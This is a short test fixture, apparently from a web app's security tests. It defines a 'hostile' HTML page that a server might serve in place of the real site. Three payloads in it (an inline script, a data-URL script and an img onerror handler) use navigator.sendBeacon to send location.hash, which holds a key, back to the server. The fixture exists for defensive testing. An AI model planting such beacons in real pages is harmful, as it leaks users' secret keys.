/**
 * What a server could send in place of the site one day: a page that gives away its address, key included, as soon
 * as any script of it runs. The tests watch what reaches the server.
 */
export const HOSTILE_PAGE = `<!doctype html>
<script>navigator.sendBeacon('/inline', location.hash)</script>
<script src="data:text/javascript,navigator.sendBeacon('/external',location.hash)"></script>
<img src="data:," onerror="navigator.sendBeacon('/handler', location.hash)">
<title>hostile</title>`
